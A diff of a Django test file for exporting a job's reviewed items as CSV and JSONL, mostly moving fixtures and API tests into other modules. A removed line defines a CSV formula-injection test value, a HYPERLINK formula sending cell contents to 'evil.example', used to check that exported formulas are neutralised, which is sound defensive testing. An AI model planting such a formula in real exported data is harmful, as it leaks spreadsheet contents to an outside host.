@@ -1,9 +1,8 @@
-"""A job's outcome exported (SPEC §6 `GET /api/jobs/{id}/export`, and the job page's buttons): a row an
-item with its state, approved text, reviewer, cost and destination outcome, as CSV and JSONL, streamed
-a chunk of items at a time, with formulas neutralised in CSV and every string kept in JSONL."""
+"""A job's outcome exported (the job page's buttons; the API's `GET /api/jobs/{id}/export` is
+tests/api/test_job_export.py): a row an item with its state, approved text, reviewer, cost and
+destination outcome, as CSV and JSONL, streamed a chunk of items at a time, with formulas neutralised
+in CSV and every string kept in JSONL."""
 
-import csv
-import io
 import json
 from decimal import Decimal
 
@@ -12,8 +11,6 @@ from django.db import connection
 from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
 
-from ledger import actions
-from ledger.actions import apply_item, approve_version, reject_version
 from ledger.models import (
     DestinationAttempt,
     GeneratedVersion,
@@ -25,80 +22,20 @@ from ledger.models import (
 )
 from ledger.money import budgets
 from ledger.money.pricing import price_for
-from ledger.states import ItemState, SubmissionState
+from ledger.states import ItemState
 from review.job_export import COLUMNS, csv_stream, file_name, jsonl_stream
-from tests.api.conftest import assert_error, token_for
-from tests.factories import ItemFactory, JobFactory, ProductFactory, add_version
+from tests.exported_jobs import (
+    EDITED,
+    FORMULA_REASON,
+    RATE,
+    SOURCE,
+    csv_rows,
+    jsonl_rows,
+    streamed,
+)
+from tests.factories import ItemFactory, JobFactory, add_version
 
 pytestmark = pytest.mark.django_db
-
-RATE = Decimal("0.7890")
-SOURCE = "Bank of England daily spot, 4 pm"
-EDITED = "An oak board, edited by a person. Forty by twenty-five centimetres."
-FORMULA_REASON = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
-
-
-@pytest.fixture
-def pounds(settings, tmp_path):
-    """A deployment in pounds, with a rate file as SPEC §9 shows it."""
-    rates = tmp_path / "rates.json"
-    rates.write_text(json.dumps({"source": SOURCE, "per_usd": {"2020-01-01": str(RATE)}}))
-    settings.BATCHDESK_CURRENCY = "GBP"
-    settings.BATCHDESK_FX_FILE = str(rates)
-
-
-def collect(clock, submission_id, provider):
-    for _ in range(200):
-        actions.poll_submission(submission_id, provider=provider)
-        if Submission.objects.get(pk=submission_id).state == SubmissionState.COLLECTED:
-            return
-        clock.advance(ms=50)
-    raise AssertionError("never collected")
-
-
-@pytest.fixture
-def worked_job(pounds, clock, emulator, provider, owner):
-    """A job whose first unit of four went to the emulator and came back (its unit settled at the rate
-    file's rate) and whose second unit was not sent: one draft approved with an edit, one approved and
-    applied to the catalogue, one rejected with a formula for a reason, one left for review, and two
-    items with no draft yet. Returns the job and its items in id order."""
-    job = JobFactory(unit_size=4, owner=owner)
-    for _ in range(6):
-        product = ProductFactory()
-        Item.objects.create(job=job, product=product, source_revision=product.current_revision)
-    first, _second = actions.plan_submissions(job.pk)
-    actions.send_submission(first, provider=provider)
-    collect(clock, first, provider)
-    items = list(Item.objects.filter(job=job).order_by("pk"))
-    assert [i.state for i in items[:4]] == [ItemState.AWAITING_REVIEW] * 4
-    edited, applied, rejected, _waiting = (i.versions.get() for i in items[:4])
-    approve_version(
-        item_id=edited.item_id,
-        version_id=edited.pk,
-        version_hash=edited.content_hash,
-        approver=owner,
-        content=EDITED,
-    )
-    approve_version(
-        item_id=applied.item_id, version_id=applied.pk, version_hash=applied.content_hash, approver=owner
-    )
-    apply_item(applied.item_id)
-    reject_version(item_id=rejected.item_id, version_id=rejected.pk, reviewer=owner, reason=FORMULA_REASON)
-    return job, list(Item.objects.filter(job=job).order_by("pk"))
-
-
-def streamed(response) -> bytes:
-    assert response.status_code == 200, response.content
-    return b"".join(response.streaming_content)
-
-
-def csv_rows(body: bytes) -> list[dict]:
-    assert body.startswith("\ufeff".encode())
-    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
-
-
-def jsonl_rows(body: bytes) -> list[dict]:
-    return [json.loads(line) for line in body.decode().splitlines()]
 
 
 def export(client, job, format: str) -> bytes:
@@ -421,69 +358,3 @@ def test_the_screens_answer_404_for_an_unknown_job(client, owner):
     client.force_login(owner)
     assert client.get("/jobs/987654321/export?format=csv").status_code == 404
     assert client.get(f"/jobs/{2**63}/export?format=csv").status_code == 404
-
-
-# --- API -----------------------------------------------------------------------------------
-
-
-def api_get(user, path: str, **query):
-    from tests.api.conftest import ApiClient
-
-    return ApiClient(token_for(user)).get(path, query)
-
-
-def test_the_api_exports_with_a_token(owner, worked_job):
-    job, items = worked_job
-    response = api_get(owner, f"/api/jobs/{job.pk}/export", format="jsonl")
-    rows = jsonl_rows(streamed(response))
-    assert [row["item_id"] for row in rows] == [item.pk for item in items]
-    response = api_get(owner, f"/api/jobs/{job.pk}/export", format="csv")
-    assert len(csv_rows(streamed(response))) == len(items)
-
-
-@pytest.mark.parametrize("role", ["catalogue_owner", "operator", "admin"])
-def test_every_role_may_export_through_the_api(role):
-    from tests.factories import UserFactory
-
-    job = JobFactory()
-    ItemFactory(job=job)
-    response = api_get(UserFactory(roles=[role]), f"/api/jobs/{job.pk}/export", format="csv")
-    assert len(csv_rows(streamed(response))) == 1
-
-
-def test_the_api_refuses_without_a_token_or_a_role(client, outsider):
-    job = JobFactory()
-    client.force_login(outsider)  # a session authenticates nothing under /api/
-    assert_error(client.get(f"/api/jobs/{job.pk}/export?format=csv"), 401, "unauthenticated")
-    assert_error(api_get(outsider, f"/api/jobs/{job.pk}/export", format="csv"), 403, "forbidden")
-
-
-@pytest.mark.parametrize("query", [{"format": "xlsx"}, {"format": ""}, {"format": ["csv", "jsonl"]}])
-def test_the_api_refuses_an_unknown_format(owner, query):
-    job = JobFactory()
-    error = assert_error(api_get(owner, f"/api/jobs/{job.pk}/export", **query), 400, "invalid", {"format"})
-    assert error["fields"]["format"] == "format must be csv or jsonl"
-
-
-@pytest.mark.parametrize(
-    "path",
-    [
-        "/api/jobs/987654321/export",
-        f"/api/jobs/{2**63}/export",
-        "/api/jobs/99999999999999999999999999999/export",
-        "/api/jobs/0/export",
-        "/api/jobs/-1/export",
-        "/api/jobs/1.5/export",
-    ],
-)
-def test_the_api_answers_404_for_an_unknown_job_or_a_number_that_is_no_id(owner, path):
-    assert_error(api_get(owner, path, format="csv"), 404, "not_found")
-
-
-def test_the_api_export_changes_nothing(owner, worked_job):
-    job, items = worked_job
-    before = list(Item.objects.filter(job=job).order_by("pk").values())
-    versions = GeneratedVersion.objects.filter(item__job=job).count()
-    streamed(api_get(owner, f"/api/jobs/{job.pk}/export", format="csv"))
-    assert list(Item.objects.filter(job=job).order_by("pk").values()) == before
-    assert GeneratedVersion.objects.filter(item__job=job).count() == versions
